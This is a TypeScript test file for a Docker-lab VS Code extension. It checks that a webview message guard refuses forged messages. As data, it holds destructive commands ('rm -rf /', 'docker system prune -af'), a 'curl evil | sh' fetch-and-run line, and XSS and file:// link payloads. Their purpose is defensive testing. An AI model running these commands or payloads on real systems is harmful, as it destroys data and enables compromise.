/**
 * The walkthrough's message guard: only the typed union passes, everything forged is refused
 * with a reason. Plain Node, no VS Code.
 */
import * as assert from 'node:assert/strict';
import { parseWebviewMessage, isSafeExternalUrl } from '../../src/webview/validate';
import { LIMITS } from '../../src/webview/protocol';

const step = { labId: 'first-containers', stepId: 'run-hello' };

function accepted(raw: unknown): unknown {
  const result = parseWebviewMessage(raw);
  assert.equal(result.ok, true, `expected ${JSON.stringify(raw)} to pass: ${result.ok ? '' : result.reason}`);
  return result.ok ? result.message : undefined;
}

function refused(raw: unknown, reasonPart: RegExp): void {
  const result = parseWebviewMessage(raw);
  assert.equal(result.ok, false, `expected ${JSON.stringify(raw)?.slice(0, 200)} to be refused`);
  if (!result.ok) assert.match(result.reason, reasonPart);
}

describe('webview message guard', () => {
  it('accepts every message of the union exactly', () => {
    assert.deepEqual(accepted({ type: 'ready' }), { type: 'ready' });
    assert.deepEqual(accepted({ type: 'interrupt' }), { type: 'interrupt' });
    assert.deepEqual(accepted({ type: 'run', ...step, index: 0 }), { type: 'run', ...step, index: 0 });
    assert.deepEqual(accepted({ type: 'run', ...step, index: 2, solution: true }), { type: 'run', ...step, index: 2, solution: true });
    assert.deepEqual(accepted({ type: 'run', ...step, index: 2, solution: false }), { type: 'run', ...step, index: 2 });
    assert.deepEqual(accepted({ type: 'copy', ...step, index: 1 }), { type: 'copy', ...step, index: 1 });
    for (const type of ['check', 'hint', 'solution', 'openService']) {
      assert.deepEqual(accepted({ type, ...step }), { type, ...step });
    }
    assert.deepEqual(accepted({ type: 'quiz', ...step, choices: [2, 0] }), { type: 'quiz', ...step, choices: [2, 0] });
    assert.deepEqual(accepted({ type: 'navigate', direction: 'next' }), { type: 'navigate', direction: 'next' });
    assert.deepEqual(accepted({ type: 'navigate', direction: 'previous' }), { type: 'navigate', direction: 'previous' });
    assert.deepEqual(accepted({ type: 'openLink', href: 'https://docs.docker.com/engine/' }), { type: 'openLink', href: 'https://docs.docker.com/engine/' });
    for (const action of ['cleanup', 'export', 'nextLab', 'back']) assert.deepEqual(accepted({ type: 'summary', action }), { type: 'summary', action });
    assert.deepEqual(accepted({ type: 'summary', action: 'step', stepId: 'run' }), { type: 'summary', action: 'step', stepId: 'run' });
  });

  it('returns a fresh object, not the one that arrived', () => {
    const raw = { type: 'run', ...step, index: 0 };
    const message = accepted(raw);
    assert.notEqual(message, raw);
  });

  it('refuses what is not a plain object', () => {
    for (const raw of [null, undefined, 'ready', 42, [], [{ type: 'ready' }], new Date()]) refused(raw, /not a plain object/);
    class Sneaky {
      type = 'ready';
    }
    refused(new Sneaky(), /not a plain object/);
  });

  it('refuses unknown types, including prototype names', () => {
    refused({ type: 'exec', command: 'docker rm -f $(docker ps -aq)' }, /unknown message type/);
    refused({ type: 'runText', text: 'rm -rf /' }, /unknown message type/);
    refused({ type: 'toString' }, /unknown message type/);
    refused({ type: '__proto__' }, /unknown message type/);
    refused({ type: 'constructor' }, /unknown message type/);
    refused({}, /unknown message type/);
    refused({ type: 7 }, /unknown message type/);
  });

  it('refuses a raw command string riding on a valid message', () => {
    refused({ type: 'run', ...step, index: 0, command: 'docker system prune -af' }, /unexpected field "command"/);
    refused({ type: 'run', ...step, command: 'rm -rf ~' }, /unexpected field|missing field index/);
    refused({ type: 'run', ...step, index: 'docker ps' }, /index is not a command index/);
    refused({ type: 'copy', ...step, index: 0, text: 'curl evil | sh' }, /unexpected field "text"/);
    refused({ type: 'interrupt', text: '\u0003' }, /unexpected field/);
    refused({ type: 'ready', extra: true }, /unexpected field "extra"/);
  });

  it('refuses missing and mistyped fields', () => {
    refused({ type: 'run', labId: step.labId, index: 0 }, /missing field stepId/);
    refused({ type: 'check', ...step, labId: '' }, /labId is not a valid id/);
    refused({ type: 'check', ...step, stepId: 5 }, /stepId is not a valid id/);
    refused({ type: 'run', ...step, index: -1 }, /index/);
    refused({ type: 'run', ...step, index: 1.5 }, /index/);
    refused({ type: 'run', ...step, index: Number.NaN }, /index/);
    refused({ type: 'run', ...step, index: 0, solution: 'yes' }, /solution is not a boolean/);
    refused({ type: 'quiz', ...step, choices: '0' }, /choices/);
    refused({ type: 'quiz', ...step, choices: [0, '1'] }, /choice is not an index/);
    refused({ type: 'quiz', ...step, choices: [1, 1] }, /given twice/);
    refused({ type: 'navigate', direction: 'sideways' }, /bad direction/);
    refused({ type: 'navigate', direction: 'next', labId: step.labId }, /unexpected field/);
    refused({ type: 'summary', action: 'toString' }, /unknown action/);
    refused({ type: 'summary' }, /missing field action/);
    refused({ type: 'summary', action: 'step' }, /step needs a stepId/);
    refused({ type: 'summary', action: 'cleanup', stepId: 'run' }, /cleanup takes no stepId/);
    refused({ type: 'summary', action: 'step', stepId: '' }, /stepId is not a valid id/);
    refused({ type: 'summary', action: 'cleanup', labId: step.labId }, /unexpected field/);
  });

  it('refuses huge payloads without echoing them', () => {
    const huge = 'x'.repeat(1_000_000);
    const result = parseWebviewMessage({ type: 'check', labId: huge, stepId: 's' });
    assert.equal(result.ok, false);
    if (!result.ok) assert.ok(result.reason.length < 200, `reason is ${result.reason.length} chars`);
    refused({ type: 'openLink', href: `https://example.com/${huge}` }, /not a short string/);
    refused({ type: 'quiz', ...step, choices: Array.from({ length: LIMITS.maxChoices + 1 }, (_, i) => i) }, /short array/);
    refused({ type: 'run', ...step, index: LIMITS.maxIndex + 1 }, /index/);
    const many: Record<string, unknown> = { type: 'ready' };
    for (let i = 0; i < 1000; i++) many[`k${i}`] = i;
    refused(many, /too many fields/);
  });

  it('refuses links that are not http(s)', () => {
    for (const href of [
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      ' https://example.com',
      'data:text/html,<script>alert(1)</script>',
      'vscode://ms-vscode.remote/open',
      'command:workbench.action.terminal.sendSequence',
      'file:///etc/passwd',
      '/relative/path',
      '//example.com/x',
      'https://user:pw@example.com/',
      'https://exa\nmple.com/',
    ]) {
      refused({ type: 'openLink', href }, /openLink/);
    }
  });
});

describe('isSafeExternalUrl', () => {
  it('keeps absolute http and https URLs only', () => {
    assert.equal(isSafeExternalUrl('https://docs.docker.com/'), true);
    assert.equal(isSafeExternalUrl('http://127.0.0.1:8888/tree'), true);
    assert.equal(isSafeExternalUrl('HTTPS://EXAMPLE.COM'), true);
    assert.equal(isSafeExternalUrl('https://'), false);
    assert.equal(isSafeExternalUrl('javascript://%0aalert(1)'), false);
    assert.equal(isSafeExternalUrl('ftp://example.com'), false);
    assert.equal(isSafeExternalUrl(''), false);
  });
});
